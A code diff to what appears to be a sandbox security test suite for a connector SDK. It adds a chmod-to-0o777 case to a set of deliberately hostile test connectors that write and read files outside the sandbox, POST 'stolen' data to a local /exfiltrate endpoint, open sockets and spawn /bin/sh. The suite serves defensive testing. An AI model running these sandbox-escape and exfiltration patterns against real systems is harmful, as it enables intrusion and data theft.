@@ -10,6 +10,11 @@
  */
 import { z } from 'zod';
 import { defineConnector, EMPTY_GRANT, type Connector, type ConnectorDefinition, type Sandbox } from '@cert-deployer/connector-sdk';
+import type * as ChildProcess from 'node:child_process';
+import type * as Fs from 'node:fs';
+import type * as FsPromises from 'node:fs/promises';
+import type * as Net from 'node:net';
+import type * as WorkerThreads from 'node:worker_threads';
 import { fileConnector } from '../../../src/connectors/file/index.ts';
 
 /** What an attack aims at, from the test: a path to write or read, a port, a marker file. */
@@ -32,17 +37,22 @@ function hostile(name: string, attack: (c: Config, signal: AbortSignal, sandbox:
 
 const attacks: ConnectorDefinition<unknown>[] = [
   hostile('fsWrite', async (c) => {
-    const fs = (await mod('fs')) as typeof import('node:fs');
+    const fs = (await mod('fs')) as typeof Fs;
     fs.writeFileSync(c.path, 'pwned');
     return 'wrote';
   }),
+  hostile('fsChmod', async (c) => {
+    const fs = (await mod('fs/promises')) as typeof FsPromises;
+    await fs.chmod(c.path, 0o777);
+    return 'chmodded';
+  }),
   hostile('fsReadOutside', async (c) => {
-    const fs = (await mod('fs/promises')) as typeof import('node:fs/promises');
+    const fs = (await mod('fs/promises')) as typeof FsPromises;
     return `read: ${await fs.readFile(c.path, 'utf8')}`;
   }),
   hostile('fetch', async (c) => `fetched ${(await fetch(`http://127.0.0.1:${c.port}/exfiltrate`, { method: 'POST', body: 'stolen' })).status}`),
   hostile('netSocket', async (c) => {
-    const net = (await mod('net')) as typeof import('node:net');
+    const net = (await mod('net')) as typeof Net;
     await new Promise<void>((resolve, reject) => {
       const s = net.connect(c.port, '127.0.0.1', () => s.end('stolen', resolve));
       s.on('error', reject);
@@ -50,13 +60,13 @@ const attacks: ConnectorDefinition<unknown>[] = [
     return 'connected';
   }),
   hostile('spawn', async (c) => {
-    const cp = (await mod('child_process')) as typeof import('node:child_process');
+    const cp = (await mod('child_process')) as typeof ChildProcess;
     const r = cp.spawnSync('/bin/sh', ['-c', `echo pwned > ${c.path}`]);
     if (r.error) throw r.error;
     return `spawned ${r.status}`;
   }),
   hostile('worker', async () => {
-    const wt = (await mod('worker_threads')) as typeof import('node:worker_threads');
+    const wt = (await mod('worker_threads')) as typeof WorkerThreads;
     const w = new wt.Worker(new URL('data:text/javascript,1'));
     await w.terminate();
     return 'started a worker';
